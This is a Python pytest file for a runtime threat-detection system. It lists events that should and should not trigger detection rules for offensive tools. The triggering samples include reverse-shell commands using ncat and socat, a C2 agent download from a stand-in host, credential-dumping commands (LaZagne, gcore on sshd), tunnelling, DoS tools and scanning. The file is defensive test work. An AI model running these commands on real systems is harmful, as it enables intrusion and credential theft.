"""Offensive tools."""

from __future__ import annotations

import pytest
from seawall.domain.runtime_events import FileUnlink

from tests.detection.runtime_events import PLATFORM, Case, Cases, dialled, event, raised, ran, rows, wrote

CASES: Cases = {
    "RT-0301": (
        [ran("gafgyt.x86", exe="/tmp/gafgyt.x86"), ran("x", exe="/tmp/.x")],
        [ran("robot"), ran("x", exe="/tmp/.xyz/run")],
    ),
    "RT-0302": (
        [ran("python hulk.py http://t.example", script="/tmp/hulk.py"), ran("goldeneye http://t.example")],
        [ran("python app.py", script="/app/app.py")],
    ),
    "RT-0303": (
        [wrote("/tmp/hulk.py")],
        [wrote("/tmp/hulk.txt"), event(FileUnlink, path="/tmp/hulk.py"), wrote("/tmp/hulk.py", creates=False)],
    ),
    "RT-0304": (
        [ran("brutespray -f x"), ran("python /opt/commix.py", script="/opt/commix.py")],
        [ran("brush"), ran("cat brutespray")],
    ),
    "RT-0305": (
        [ran("lazagne all"), ran("gcore -o /tmp/d sshd"), ran("strings /proc/812/mem")],
        [ran("gcore -o /tmp/d app"), ran("strings /bin/ls")],
    ),
    "RT-0306": (
        [ran("amicontained"), ran("cdk evaluate", exe="/tmp/cdk")],
        [ran("node /usr/lib/cdk deploy", script="/usr/lib/cdk"), ran("kubectl get pods")],
    ),
    "RT-0307": (
        [
            ran("nmap -sT -p 443 10.0.0.0/16"),
            ran("nc -zv 10.0.0.1 20-80"),
            ran("bash -c 'for i in $(seq 1 254); do ping -c1 10.0.0.$i; done'"),
        ],
        [
            ran("nc -zv db 5432"),
            ran("bash -c 'for i in $(seq 1 3); do echo $i; done'"),
            ran("fping gateway", where=PLATFORM),
        ],
    ),
    "RT-0308": (
        [[dialled(f"10.0.0.{n}", 443, result=111, at=n / 10) for n in range(1, 70)]],
        [
            [dialled(f"10.0.0.{n}", 443, at=n / 10) for n in range(1, 70)],
            [dialled("10.0.0.1", 443, result=111, at=n / 10) for n in range(70)],
            [dialled(f"10.0.0.{n}", 443, result=111, at=n * 5) for n in range(1, 70)],
        ],
    ),
    "RT-0309": (
        [ran("chisel client t.example R:socks"), ran("cloudflared tunnel --url http://localhost", drift=True)],
        [ran("cloudflared tunnel run"), ran("chiselled-app", exe="/app/chis")],
    ),
    "RT-0310": (
        [
            ran("curl -s -X POST -H file:sandcat.go http://c.example/file/download"),
            ran("./splunkd -server http://c.example:8888 -group red", exe="/tmp/splunkd"),
        ],
        [ran("splunkd -p 8089 start"), ran("curl http://c.example/file/download")],
    ),
    "RT-0311": (
        [
            ran("nc -lvp 4444"),
            ran("ncat 192.0.2.1 443 -e /bin/bash"),
            ran("socat TCP-LISTEN:80,fork TCP:db:80"),
            ran("socat TCP:a.example:1 EXEC:/bin/sh"),
        ],
        [
            ran("nc -z db 5432"),
            ran("nc db 5432"),
            ran("socat - TCP:db:80"),
            ran("socat TCP-LISTEN:80 TCP:a:80", where=PLATFORM),
        ],
    ),
    "RT-0312": (
        [
            [dialled("10.0.0.9", 22, source_port=40000 + n, at=n) for n in range(35)],
            [dialled("10.0.0.9", 5432, "hydra x", source_port=40000 + n, at=n) for n in range(35)],
        ],
        [
            [dialled("10.0.0.9", 22, source_port=40000 + n, at=n * 20) for n in range(35)],
            [dialled("10.0.0.9", 5432, "app", source_port=40000 + n, at=n) for n in range(35)],
            [dialled("10.0.0.9", 443, source_port=40000 + n, at=n) for n in range(35)],
        ],
    ),
}


@pytest.mark.parametrize(("rule", "case", "fires"), rows(CASES))
def test_tools(rule: str, case: Case, fires: bool) -> None:
    assert raised(rule, case) is fires
